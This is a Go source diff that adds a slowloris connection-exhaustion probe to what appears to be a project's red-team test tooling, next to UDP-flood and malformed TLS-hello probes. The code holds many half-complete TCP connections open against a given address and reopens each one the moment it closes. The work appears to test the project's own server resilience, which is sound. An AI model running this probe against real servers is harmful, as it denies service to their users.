@@ -5,6 +5,7 @@ package main
 import (
 	"crypto/tls"
 	"encoding/binary"
+	"encoding/hex"
 	"errors"
 	"fmt"
 	"net"
@@ -25,6 +26,9 @@ const redteam5Usage = `       claude net rt5-udpflood SERVER:PORT NAME RATE SECO
                                                    compatible hello, which has no extensions), v34 (ECH in a
                                                    record of version 3.4), plain (crypto/tls's
                                                    own, the control); then waits SECS for an answer
+       claude net rt5-slowloris ADDR:PORT N SECS HEX PAD  N connections, each sending the bytes HEX then PAD bytes
+                                                   "a" and holding until the server closes it, then again,
+                                                   for SECS
 The fifth red team's probes (e2e/attack_redteam5_test.go).`
 
 // redteam5Probe runs one of the fifth red team's probes; ok is false for another mode.
@@ -34,6 +38,8 @@ func redteam5Probe(args []string) (map[string]any, bool) {
 		return probeUDPFlood(args[1:]), true
 	case "rt5-hello":
 		return probeOddHello(args[1:]), true
+	case "rt5-slowloris":
+		return probeSlowloris(args[1:]), true
 	}
 	return nil, false
 }
@@ -206,4 +212,53 @@ func hasExtension(msg []byte, typ uint16) bool {
 		exts = exts[4+int(binary.BigEndian.Uint16(exts[2:])):]
 	}
 	return false
+}
+
+// probeSlowloris keeps N connections to ADDR:PORT, each holding what a listener buffers before
+// it decides (a hello's record, a request's headers, a DNS message) all but complete, for SECS:
+// a connection the server closes is opened again at once.
+func probeSlowloris(args []string) map[string]any {
+	if len(args) < 5 {
+		return map[string]any{"ok": false, "error": "need ADDR:PORT N SECS HEX PAD"}
+	}
+	n, err1 := benchCount(args[1])
+	secs, err2 := benchCount(args[2])
+	prefix, err3 := hex.DecodeString(args[3])
+	pad, err4 := strconv.Atoi(args[4])
+	if err := errors.Join(err1, err2, err3, err4); err != nil {
+		return failed(err)
+	}
+	payload := append(prefix, []byte(strings.Repeat("a", pad))...)
+	end := time.Now().Add(time.Duration(secs) * time.Second)
+	var opened, refused, held, maxHeld atomic.Int64
+	var wg sync.WaitGroup
+	for range n {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for time.Now().Before(end) {
+				c, err := net.DialTimeout("tcp", args[0], 5*time.Second)
+				if err != nil {
+					refused.Add(1)
+					time.Sleep(100 * time.Millisecond)
+					continue
+				}
+				opened.Add(1)
+				if _, err := c.Write(payload); err != nil {
+					refused.Add(1)
+					c.Close()
+					continue
+				}
+				h := held.Add(1)
+				for m := maxHeld.Load(); h > m && !maxHeld.CompareAndSwap(m, h); m = maxHeld.Load() {
+				}
+				c.SetReadDeadline(end)
+				c.Read(make([]byte, 1))
+				held.Add(-1)
+				c.Close()
+			}
+		}()
+	}
+	wg.Wait()
+	return map[string]any{"ok": true, "tried": opened.Load(), "refused": refused.Load(), "held": maxHeld.Load()}
 }
